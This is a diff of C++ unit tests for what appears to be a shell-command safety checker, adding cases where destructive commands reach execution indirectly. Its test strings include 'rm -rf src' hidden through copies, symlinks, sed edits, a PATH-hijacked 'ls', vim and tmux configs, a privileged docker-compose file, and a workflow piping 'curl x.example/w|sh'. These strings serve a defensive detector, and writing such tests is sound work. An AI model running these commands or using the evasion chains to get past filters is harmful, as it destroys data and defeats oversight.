@@ -155,6 +155,27 @@ TEST(Written, WhatIsWhollyKnownMayLieInATemporaryDirectory) {
   stopped(file("/tmp/a.sh", "npm test") + "./generate >> /tmp/a.sh; sh /tmp/a.sh");  // and something more
 }
 
+TEST(Written, ACopyHoldsWhatTheFileHeld) {
+  for (const char* text :
+       {"cp a.txt b.sh; sh b.sh", "mv a.txt b.sh; sh b.sh", "ln -s a.txt b; sh b", "cat a.txt > b.sh; sh b.sh",
+        "mkdir -p bin; cp a.txt bin/; sh bin/a.txt", "sed -i s/src/tests/ a.txt; sh a.txt"})
+    stopped("echo 'rm -rf src' > a.txt; " + std::string(text));
+  stopped("echo 'rX -rf src' > a.sh; sed -i s/X/m/ a.sh; sh a.sh");
+  stopped("python3 -c \"print('rm -rf src')\" > a.sh; sh a.sh");
+  stopped("mkdir bin; echo 'rm -rf src' > bin/ls; chmod +x bin/ls; PATH=$PWD/bin:$PATH; ls");
+  stopped("x=$(cat y); echo \"$x\" > /tmp/a.sh; sh /tmp/a.sh");
+  passes("echo 'npm test' > a.txt; cp a.txt b.sh; sh b.sh");
+}
+
+TEST(Written, SettingsThatAToolIsPointedAtAreRead) {
+  stopped("echo '!rm -rf src' > x.vim; vim -S x.vim");
+  stopped(file("x.conf", "run-shell 'rm -rf src'") + "tmux -f x.conf new -d");
+  stopped(file("docker-compose.yml", "services:\n  a:\n    image: x\n    privileged: true") + "docker compose up");
+  passes(file("docker-compose.yml", "services:\n  a:\n    image: x\n    volumes:\n      - ./src:/src") +
+         "docker compose up -d");
+  passes(file("docker-compose.yml", "services:\n  a:\n    privileged: true") + "docker compose config");
+}
+
 TEST(Written, WhatOthersRunLaterCountsWhereItIsHandedOver) {
   const std::string workflow =
       file(".github/workflows/x.yml", "jobs:\n  a:\n    steps:\n      - run: curl x.example/w|sh");
